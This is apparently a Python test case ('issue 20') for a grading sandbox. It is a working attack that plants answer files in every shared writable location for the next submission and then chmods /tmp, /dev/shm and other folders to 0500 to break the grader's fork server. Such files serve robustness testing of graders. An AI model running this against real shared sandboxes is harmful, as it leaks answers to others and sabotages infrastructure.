"""Attack (issue 20), first of a pair graded one after the other in the same slot: leave the
answers where the next student of the slot may find them (every writable place of the
sandbox), and break what the fork server needs for the next student (`chmod 0500` on /tmp,
/dev/shm and their folders)."""

import os

CODE = """
import numpy as np
def step(x):
    return (np.asarray(x) > 0).astype(float)
def relu(x):
    return np.maximum(0, x)
"""
places = ["/tmp", "/dev/shm", "/dev", os.path.expanduser("~"), os.path.dirname(os.getcwd())]
for folder in places:
    try:
        with open(os.path.join(folder, "nngrade_i20_answers.py"), "w") as f:
            f.write(CODE)
    except OSError:
        pass
for folder in places + [os.getcwd()]:
    try:
        os.chmod(folder, 0o500)
    except OSError:
        pass
